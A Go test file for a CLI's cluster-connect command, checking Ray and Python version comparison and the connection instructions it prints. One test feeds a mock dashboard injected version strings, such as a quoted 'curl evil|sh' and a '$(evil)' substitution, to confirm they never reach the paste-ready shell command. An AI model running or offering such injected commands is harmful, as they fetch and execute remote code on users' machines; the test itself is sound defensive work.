package session

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/heliostat-dev/heliostat/cli/console"
	"github.com/heliostat-dev/heliostat/cli/outcome"
	"github.com/heliostat-dev/heliostat/ray-operator/api/v1beta1"
)

func TestDiffer_SaysWhatRayClientRefuses(t *testing.T) {
	there := versions{"2.60.0", "3.11.9"}
	for name, c := range map[string]struct {
		cluster, here versions
		says          string
	}{
		"the same":                      {there, there, ""},
		"another patch of Python":       {there, versions{"2.60.0", "3.11.2"}, ""},
		"another minor of Python":       {there, versions{"2.60.0", "3.12.9"}, "use Python 3.11 here"},
		"another Python and no Ray":     {there, versions{"", "3.1.9"}, "use Python 3.11 here"},
		"another Ray":                   {there, versions{"2.52.0", "3.11.9"}, `pip install "ray[client]==2.60.0"`},
		"no Ray":                        {there, versions{"", "3.11.9"}, "has no Ray"},
		"no Python":                     {there, versions{}, "there is no python3 here"},
		"a cluster that says no Ray":    {versions{"", "3.11.9"}, there, "the cluster's Ray is not known"},
		"a cluster that says nothing":   {versions{}, versions{}, "install it to use"},
		"a cluster that says no Python": {versions{"2.60.0", ""}, versions{"2.60.0", "3.9.1"}, ""},
	} {
		if says := differ(c.cluster, c.here); (says == "") != (c.says == "") || !strings.Contains(says, c.says) {
			t.Errorf("%s: %q, want %q", name, says, c.says)
		}
	}
}

func TestConnect_PrintsTheLines(t *testing.T) {
	c, out := newConsole(t)
	t.Setenv("PATH", t.TempDir())
	if err := execute(t.Context(), c, "connect", "demo"); err != nil {
		t.Fatal(err)
	}
	for _, says := range []string{"Ray 2.60.0, Python 3.11.2\n", "no Ray, no Python\n", "install Python 3.11", "heliostat session demo -- ", "job submit --cluster demo"} {
		if !strings.Contains(out.text.String(), says) {
			t.Errorf("it does not say %q: %s", says, out.text.String())
		}
	}
	if err := execute(t.Context(), c, "connect", "demoo"); outcome.Code(err) != outcome.Usage {
		t.Errorf("a cluster that is not there: %v", err)
	}
}

// TestConnect_PrintsOnlyVersions has a head whose version of Ray ends the command that a user would paste into a shell.
func TestConnect_PrintsOnlyVersions(t *testing.T) {
	for name, c := range map[string]struct{ says, prints string }{
		"a version":          {"3.0.0.dev0+cu_12-1", "Ray 3.0.0.dev0+cu_12-1"},
		"a command":          {`2.60"; curl evil|sh; "`, ""},
		"a command in words": {"2.60$(evil)", ""},
		"a word":             {"-r", ""},
		"two lines":          {"2.60\nevil", ""},
		"a long one":         {"2." + strings.Repeat("0", 40), ""},
	} {
		user, out := newConsole(t)
		said, asks := newLines(), throughDashboard(t, user, c.says)
		user.ErrOut = said
		t.Setenv("PATH", pythonOf(t, "echo Python 3.11.2"))
		if err := execute(t.Context(), user, "connect", "demo"); err != nil || asks.Load() == 0 {
			t.Fatalf("%s: %v", name, err)
		}
		if text := out.text.String(); c.prints != "" && !strings.Contains(text, c.prints) || c.prints == "" && strings.Contains(text, c.says) {
			t.Errorf("%s: it prints %s", name, text)
		}
		if isWarned := strings.Contains(said.text.String(), "the cluster's Ray is not known"); isWarned == (c.prints != "") {
			t.Errorf("%s: it says %q", name, said.text.String())
		}
	}
}

// pythonOf makes a directory with a python3 that is a script.
func pythonOf(t *testing.T, script string) (directory string) {
	t.Helper()
	directory = t.TempDir()
	if err := os.WriteFile(filepath.Join(directory, "python3"), []byte("#!/bin/sh\n"+script+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	return directory
}

// throughDashboard has the user reach the head through a server, and the head say a version of Ray. It counts requests to the
// head.
func throughDashboard(t *testing.T, c *console.Console, ray string) *atomic.Int32 {
	t.Helper()
	asked := &atomic.Int32{}
	var server *httptest.Server
	server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var said any
		switch asked.Add(1); r.URL.Path {
		case "/dashboard/api/version":
			said = map[string]any{"ray_version": ray}
		case "/dashboard/api/v0/cluster_metadata":
			said = map[string]any{"data": map[string]any{"pythonVersion": "3.11.2"}}
		default:
			said = map[string]any{"dashboard": server.URL + "/dashboard/"}
		}
		_ = json.NewEncoder(w).Encode(said) // the client shows what is missing
	}))
	t.Cleanup(server.Close)
	c.Server, c.Forward = console.Server{URL: server.URL, Token: "mine"}, nil
	return asked
}

func TestTell_NamesTheServer(t *testing.T) {
	var out strings.Builder
	tell(&out, "demo", ways{Server: "https://x"})
	if want := `eval "$(heliostat env demo --server https://x)" && ray job list`; !strings.Contains(out.String(), want) {
		t.Errorf("it says %s, want %s", out.String(), want)
	}
}

func TestTell_HasTheLinesOfTheStatus(t *testing.T) {
	const heading = "A shell within Kubernetes"
	for name, c := range map[string]struct {
		inside *v1beta1.ConnectSummary
		ends   string
	}{
		"all":               {&v1beta1.ConnectSummary{Token: "a", Certificate: "b", Jobs: "c", Client: "d"}, ":\n  a\n  b\n  c\n  d\n"},
		"no authentication": {&v1beta1.ConnectSummary{Jobs: "c", Client: "d"}, ":\n  c\n  d\n"},
		"none yet":          {nil, "ray job list\n"},
	} {
		var out strings.Builder
		tell(&out, "demo", ways{Inside: c.inside})
		if text := out.String(); !strings.HasSuffix(text, c.ends) || strings.Contains(text, heading) != (c.inside != nil) {
			t.Errorf("%s: it ends otherwise than with %q: %s", name, c.ends, text)
		}
	}
}

func TestLocal_ReadsWhatPythonSays(t *testing.T) {
	for name, c := range map[string]struct {
		script string
		want   versions
	}{
		"both":         {"echo Python 3.11.2; echo Ray 2.60.0", versions{"2.60.0", "3.11.2"}},
		"no Ray":       {"echo Python 3.11.2; exit 1", versions{"", "3.11.2"}},
		"chatter":      {"echo hello; echo Python 3.11.2; echo Ray of light!; echo Ray 2.60.0", versions{"2.60.0", "3.11.2"}},
		"nothing":      {"exit 1", versions{}},
		"not a number": {`printf 'Ray \033[2J\n'`, versions{}},
	} {
		t.Setenv("PATH", pythonOf(t, c.script))
		if got := local(t.Context(), &console.Console{}); got != c.want {
			t.Errorf("%s: %+v, want %+v", name, got, c.want)
		}
	}
	t.Setenv("PATH", t.TempDir())
	if got := local(t.Context(), &console.Console{}); got != (versions{}) {
		t.Errorf("without python3: %+v", got)
	}
}
